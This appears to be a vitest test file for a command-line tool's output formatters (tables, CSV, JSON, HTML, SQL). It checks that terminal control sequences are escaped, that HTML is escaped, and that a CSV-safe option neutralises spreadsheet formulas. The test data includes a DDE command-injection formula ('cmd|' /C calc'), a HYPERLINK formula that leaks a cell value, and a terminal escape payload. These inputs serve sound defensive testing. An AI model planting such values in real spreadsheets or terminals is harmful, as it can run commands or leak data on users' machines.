import { describe, expect, test } from "vitest";
import Database from "better-sqlite3";
import { createColours } from "../../../src/cli/colours.ts";
import { csv as csvParser } from "./round-trip.ts";
import type { Column, Row } from "../../../src/cli/format/column.ts";
import { formatOfFile, formats, parseFormatName, type TextFormat } from "../../../src/cli/format/format.ts";
import { widthOf } from "../../../src/cli/format/text.ts";
import { audioBytes, imageBytes } from "../../support/tiny-media.ts";

async function* each(rows: readonly Row[]): AsyncGenerator<Row> {
  yield* rows;
}

const column = (name: string, format?: "embedding"): Column => ({ name, type: undefined, format });

async function write(
  format: TextFormat,
  names: readonly (string | Column)[],
  rows: readonly Row[],
  { isCsvSafe = false } = {},
): Promise<string> {
  const columns = names.map((name) => (typeof name === "string" ? column(name) : name));
  const parts: string[] = [];
  const style = { colours: createColours(false), isCsvSafe };
  for await (const part of formats[format](columns, each(rows), style)) parts.push(part);
  return parts.join("");
}

const floats = (...components: number[]): Uint8Array => new Uint8Array(new Float32Array(components).buffer);

describe("table and box", () => {
  test("columns are aligned, numbers stand right", async () => {
    expect(
      await write(
        "table",
        ["id", "name"],
        [
          [1, "x"],
          [10, null],
        ],
      ),
    ).toBe("+----+------+\n| id | name |\n+----+------+\n|  1 | x    |\n| 10 | NULL |\n+----+------+\n");
    expect(await write("box", ["id"], [[1]])).toBe("┌────┐\n│ id │\n├────┤\n│  1 │\n└────┘\n");
  });

  test("an empty result still shows its columns", async () => {
    expect(await write("table", ["a"], [])).toBe("+---+\n| a |\n+---+\n+---+\n");
  });

  test("width is what a terminal shows: CJK, emoji, combining marks, ZWNJ", async () => {
    const texts = ["日本語", "👨‍👩‍👧", "🇩🇪", "❤️", "e\u0301", "می\u200cخواهم", "ﾊﾝ", "x"];
    const lines = (
      await write(
        "table",
        ["t"],
        texts.map((text) => [text]),
      )
    )
      .trimEnd()
      .split("\n");
    expect(new Set(lines.map(widthOf)).size).toBe(1);
  });

  test("a value of several lines makes a row of several lines", async () => {
    expect(await write("table", ["a", "b"], [["x\r\nyy", 1]])).toBe(
      "+----+---+\n| a  | b |\n+----+---+\n| x  | 1 |\n| yy |   |\n+----+---+\n",
    );
  });

  test("bytes and vectors are named, not shown", async () => {
    const png = Buffer.from("89504e470d0a1a0a00", "hex");
    const vector = floats(0.013, -0.02, 1, 2);
    const text = await write(
      "table",
      ["a", "b", column("c", "embedding")],
      [[new Uint8Array(2048), png, vector]],
    );
    expect(text).toContain("<blob, 2048 bytes>");
    expect(text).toContain("<image/png, 9 bytes>");
    expect(text).toContain("[0.013, -0.020, … 4]");
  });

  test("a long result is measured over its first rows, and nothing is lost or cut behind them", async () => {
    const rows = Array.from({ length: 1500 }, (_, index): Row => [index === 1400 ? "much wider" : "x"]);
    const lines = (await write("table", ["t"], rows)).trimEnd().split("\n");
    expect(lines.length).toBe(1500 + 4);
    expect(lines).toContain("| much wider |");
    const exactly = (await write("table", ["t"], rows.slice(0, 1000))).trimEnd().split("\n");
    expect(exactly.length).toBe(1000 + 4);
  });
});

describe("a terminal does not obey values", () => {
  const hostile = "a\u001b]0;title\u0007\u001b[31mb\u009b2Jc\u202ed\u200b\u{e0041}\r\ud800";

  test.each(["table", "box", "markdown", "line"] as const)("%s shows controls escaped", async (format) => {
    const text = await write(format, [`h\u001b[1m`], [[hostile]]);
    expect(text).not.toMatch(
      // oxlint-disable-next-line no-control-regex
      /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u200b\u{e0041}]|\p{Surrogate}/u,
    );
    const shown = format === "markdown" ? text.replaceAll("\\\\", "\\") : text;
    expect(shown).toContain("\\x1b]0;title\\x07\\x1b[31mb\\x9b2Jc\\u202ed\\u200b\\u{e0041}\\r\\ud800");
  });

  test.each(["json", "ndjson"] as const)("%s is exact and inert", async (format) => {
    const text = await write(format, ["h"], [[hostile]]);
    // oxlint-disable-next-line no-control-regex
    expect(text.trimEnd()).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
    const parsed: unknown = JSON.parse(text);
    expect(parsed).toEqual(format === "json" ? [{ h: hostile }] : { h: hostile });
  });

  test("csv is exact", async () => {
    expect(await write("csv", ["h"], [["\u001b[31m"]])).toBe("h\n\u001b[31m\n");
  });
});

describe("S17: formulas", () => {
  const formulas = [
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\uff1d1",
    '=HYPERLINK("http://x/"&A1,"y")',
  ];
  const rows = formulas.map((text) => [text]);

  test("csv and tsv --csv-safe make them text, headers too", async () => {
    const csv = await write("csv", ["=h"], rows, { isCsvSafe: true });
    expect(csv).toMatch(/^'=h\n/);
    expect(await csvParser(csv)).toEqual(formulas.map((text) => [`'${text}`]));
    const tsv = await write("tsv", ["=h"], rows, { isCsvSafe: true });
    expect(tsv.startsWith(`'=h\n'=1+1\n'+1\n'-1+cmd|' /C calc'!A0\n'@SUM(A1)\n"'\t=1"\n`)).toBe(true);
  });

  test("csv leaves them, unless it is told", async () => {
    const csv = await write("csv", ["=h"], rows);
    expect(csv).toMatch(/^=h\n/);
    expect(await csvParser(csv)).toEqual(rows);
  });

  test("numbers, NULL and other text stay as they are", async () => {
    const row = [-5, -1.5, -9007199254740993n, null, "", "a=b", "x@y", "'=1", "1-2"];
    const names = row.map((_, index) => `c${index}`);
    const plain = await write("csv", names, [row]);
    expect(await write("csv", names, [row], { isCsvSafe: true })).toBe(plain);
    expect(plain.split("\n")[1]).toBe(`-5,-1.5,-9007199254740993,,"",a=b,x@y,'=1,1-2`);
  });

  test("base64 and vectors are cells like others", async () => {
    const plus = Buffer.from("fbefbe", "hex");
    expect(await write("csv", ["b"], [[plus]])).toBe("b\n++++\n");
    expect(await write("csv", ["b"], [[plus]], { isCsvSafe: true })).toBe("b\n'++++\n");
  });

  test("no other format is told", async () => {
    for (const format of ["json", "ndjson", "table", "list", "insert"] as const)
      expect(await write(format, ["h"], [["=1"]], { isCsvSafe: true })).toBe(
        await write(format, ["h"], [["=1"]]),
      );
  });
});

describe("markdown and line", () => {
  test("markdown keeps a value in its cell", async () => {
    const value = "x|y\\\n<b>&amp; & z";
    expect((await write("markdown", ["a|b", "n"], [[value, 1]])).split("\n")).toEqual([
      `| a\\|b${" ".repeat(25)} | n |`,
      `|${"-".repeat(31)}|--:|`,
      "| x\\|y\\\\<br>&lt;b>&amp;amp; & z | 1 |",
      "",
    ]);
  });

  test("line aligns names and keeps rows apart", async () => {
    expect(
      await write(
        "line",
        ["a", "long"],
        [
          ["x\ny", null],
          [2n ** 60n, 1],
        ],
      ),
    ).toBe("   a = x\n       y\nlong = NULL\n\n   a = 1152921504606846976\nlong = 1\n");
  });
});

describe("quote and insert", () => {
  const values: Row = [
    null,
    1,
    -2.5,
    2n ** 62n,
    "it's\na text",
    "a\u001b[31m\u0000b",
    new Uint8Array([0, 255]),
  ];

  test("rows are literals as SQL has them, and nothing a terminal would obey", async () => {
    const names = values.map((_, index) => `c${index}`);
    expect(await write("quote", names, [values])).toBe(
      "NULL,1,-2.5,4611686018427387904,'it''s\na text',CAST(X'611b5b33316d0062' AS TEXT),X'00ff'\n",
    );
    expect(await write("quote", ["a"], [[Infinity], [-Infinity]])).toBe("9e999\n-9e999\n");
  });

  test("SQLite reads them back the same", async () => {
    const db = new Database(":memory:");
    const names = values.map((_, index) => `c"${index}`);
    db.exec(`CREATE TABLE "table"(${names.map((name) => `"${name.replace('"', '""')}"`).join(",")})`);
    db.exec(await write("insert", names, [values, values]));
    const rows = db.prepare('SELECT * FROM "table"').raw().safeIntegers().all();
    expect(rows).toEqual([1, 2].map(() => [null, 1n, -2.5, ...values.slice(3, 6), Buffer.from([0, 255])]));
  });

  test("insert names its table, and keeps repeated columns apart", async () => {
    const columns = [column("a"), column("a")];
    const parts: string[] = [];
    const style = { colours: createColours(false), table: 'odd "name"' };
    for await (const part of formats.insert(columns, each([[1, 2]]), style)) parts.push(part);
    expect(parts.join("")).toBe('INSERT INTO "odd ""name"""("a","a:1") VALUES(1,2);\n');
  });
});

describe("list and html", () => {
  test("list is values and bars, NULL nothing", async () => {
    expect(await write("list", ["a", "b", "c"], [[null, "x y", 1.5]])).toBe("|x y|1.5\n");
  });

  test("html escapes what could be markup, and tells NULL from the empty text", async () => {
    const row: Row = ['<script>"&', "a\nb", null, "", 3];
    expect(await write("html", ["<a>", "b", "c", "d", "e"], [row])).toBe(
      "<table>\n<thead>\n<tr><th>&lt;a&gt;</th><th>b</th><th>c</th><th>d</th><th>e</th></tr>\n</thead>\n<tbody>\n" +
        '<tr><td>&lt;script&gt;&quot;&amp;</td><td>a<br>b</td><td class="null"></td><td></td><td align="right">3</td></tr>\n' +
        "</tbody>\n</table>\n",
    );
  });

  test("html holds images and sound whole", async () => {
    const png = imageBytes("png", { width: 3, height: 2, seed: "x" });
    const wav = audioBytes("wav");
    const text = await write("html", ["a", "b", "c"], [[png, wav, new Uint8Array(3)]]);
    expect(text).toContain(`src="data:image/png;base64,${png.toString("base64")}"`);
    expect(text).toContain('<img alt="&lt;image/png 3x2,');
    expect(text).toContain(`src="data:audio/wav;base64,${wav.toString("base64")}"`);
    expect(text).toContain("<td>&lt;blob, 3 bytes&gt;</td>");
  });
});

describe("names of formats", () => {
  test("other shells' names are known, and the nearest is offered", () => {
    expect(parseFormatName("JSONL")).toBe("ndjson");
    expect(parseFormatName("column")).toBe("table");
    expect(() => parseFormatName("mardown")).toThrow(/no format/);
  });

  test("a file's ending says its format", () => {
    expect(["a.CSV", "b.parquet", "c.sql", "d.txt", "e"].map(formatOfFile)).toEqual([
      "csv",
      "parquet",
      "insert",
      undefined,
      undefined,
    ]);
  });
});

describe("csv and tsv", () => {
  test("null is an empty cell, the empty text is quoted, RFC 4180 otherwise", async () => {
    expect(
      await write(
        "csv",
        ["a", "b"],
        [
          [null, ""],
          ['say "hi"', "x,y\nz"],
          [1.5, 9007199254740993n],
        ],
      ),
    ).toBe('a,b\n,""\n"say ""hi""","x,y\nz"\n1.5,9007199254740993\n');
    expect(await write("tsv", ["a", "b"], [["x\ty", "p,q"]])).toBe('a\tb\n"x\ty"\tp,q\n');
  });

  test("bytes are base64, vectors are arrays, infinity has a name", async () => {
    const row = [new Uint8Array([1, 2]), floats(0.1, -2), -Infinity];
    expect(await write("csv", ["a", column("b", "embedding"), "c"], [row])).toBe(
      'a,b,c\nAQI=,"[0.1, -2]",-Inf\n',
    );
  });

  test("what is written is read back the same", async () => {
    const rows: Row[] = [
      [null, "", " x ", "007"],
      [1, -2.5, 1e-7, 2n ** 62n],
      ["a\r\nb", '"', ",", "日本"],
    ];
    expect(await csvParser(await write("csv", ["a", "b", "c", "d"], rows))).toEqual(rows);
  });
});

describe("json and ndjson", () => {
  test("values have their JSON kinds", async () => {
    const row: Row = [null, 1, 2.5, 2n ** 63n - 1n, "é\n", new Uint8Array([255]), floats(0.1, 2), Infinity];
    const names = ["n", "i", "r", "big", "t", "b", column("e", "embedding"), "inf"];
    expect(await write("ndjson", names, [row])).toBe(
      '{"n":null,"i":1,"r":2.5,"big":9223372036854775807,"t":"é\\n",' +
        '"b":{"$base64": true, "encoded": "/w=="},"e":[0.1, 2],"inf":9e999}\n',
    );
  });

  test("__proto__ is a key and repeated names stay apart", async () => {
    expect(await write("ndjson", ["__proto__", "a", "a", "a:1"], [[1, 2, 3, 4]])).toBe(
      '{"__proto__":1,"a":2,"a:1":3,"a:1:1":4}\n',
    );
  });

  test("an array is closed only when it is whole", async () => {
    expect(await write("json", ["a"], [])).toBe("[]\n");
    expect(await write("json", ["a"], [[1], [2]])).toBe('[{"a":1},\n{"a":2}]\n');
    async function* cut(): AsyncGenerator<Row> {
      yield [1];
      throw new Error("cut");
    }
    const parts: string[] = [];
    const reading = (async () => {
      for await (const part of formats.json([column("a")], cut(), { colours: createColours(false) }))
        parts.push(part);
    })();
    await expect(reading).rejects.toThrow("cut");
    expect(parts.join("")).toBe('[{"a":1}\n');
  });

  test("rows are written as they come", async () => {
    let given = 0;
    async function* slow(): AsyncGenerator<Row> {
      for (;;) yield [++given];
    }
    for (const format of ["csv", "tsv", "ndjson", "json", "line"] as const) {
      given = 0;
      let parts = 0;
      for await (const _ of formats[format]([column("a")], slow(), { colours: createColours(false) }))
        if (++parts === 3) break;
      expect(given).toBeLessThanOrEqual(3);
    }
  });
});
